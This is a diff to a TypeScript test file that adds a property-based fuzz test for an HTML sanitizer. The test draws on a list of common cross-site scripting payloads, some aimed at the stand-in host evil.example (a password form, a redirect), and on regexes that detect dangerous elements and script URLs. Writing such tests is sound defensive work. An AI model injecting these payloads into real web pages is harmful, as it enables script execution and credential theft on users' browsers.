@@ -1,9 +1,58 @@
 import fc from 'fast-check';
+import { DomUtils, parseDocument } from 'htmlparser2';
 import { describe, expect, test } from 'vitest';
 import { startTags, xmlRecords } from '../../../src/html/read-markup.ts';
 import { embeddableHtml, safeHtml } from '../../../src/html/sanitize.ts';
 import { beginningOf, textFromHtml } from '../../../src/html/text.ts';
 import { repetitions } from '../../support/repetitions.ts';
+
+/** What attackers write, whole and in pieces. */
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '<scr<script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img/src="x"/onerror=alert(1)//',
+  '<a href="javascript:alert(1)">',
+  '<a href="java\nscript:alert(1)">',
+  '<a href="&#106;avascript&colon;alert(1)">',
+  '<a href=" data:text/html,<script>alert(1)</script>">',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)>',
+  '<math><mtext><style><img src=x onerror=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>">',
+  '<iframe src="javascript:alert(1)">',
+  '<object data="javascript:alert(1)">',
+  '<form action="https://evil.example/"><input name=password>',
+  '<style>*{background:url(https://evil.example/)}</style>',
+  '<p style="position:fixed;inset:0" id="main" class="overlay" onclick=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<b',
+  '"',
+  "'",
+  '>',
+  '</p>',
+  '<p title="',
+  '\0',
+];
+/** Addresses that are programs, or files of the machine. */
+const RUNS = /^\W*(?:javascript|data|vbscript|file):/i;
+const FORBIDDEN =
+  /^(?:script|style|iframe|object|embed|form|input|button|textarea|select|base|meta|link|svg|math|template|noscript|frame|frameset|applet)$/;
+
+/** Elements and attributes that could run, load or cover something. */
+const dangersIn = (html: string): readonly string[] =>
+  DomUtils.findAll(() => true, parseDocument(html).children).flatMap(({ name, attribs }) => [
+    ...(FORBIDDEN.test(name) ? [name] : []),
+    ...Object.entries(attribs).flatMap(([attribute, value]) =>
+      /^on|^(?:style|srcdoc|formaction|id|class)$/.test(attribute) || RUNS.test(value) ? [`${attribute}=${value}`] : [],
+    ),
+  ]);
 
 const depthOf = (html: string): number => html.split('<b>').length - 1;
 
@@ -53,6 +102,17 @@ describe('HTML from outside', () => {
     expect(safeHtml('a<iframe src="x"><b>old</b></iframe>b')).toBe('a<b>old</b>b');
     expect(safeHtml('a<iframe><b>old</b></iframe>b'.repeat(51))).toBe('ab'.repeat(51));
   });
+
+  test('leaves nothing that runs, loads or covers the page, whatever it is made of', () =>
+    fc.assert(
+      fc.property(
+        fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ maxLength: 4 })), { maxLength: 12 }),
+        (parts) => {
+          expect(dangersIn(safeHtml(parts.join('')))).toEqual([]);
+        },
+      ),
+      { numRuns: repetitions(2_000) },
+    ));
 
   test('is read for its beginning without all of it', () =>
     expect(beginningOf(`<p>${'word '.repeat(100_000)}</p>`)).toHaveLength(19_997));
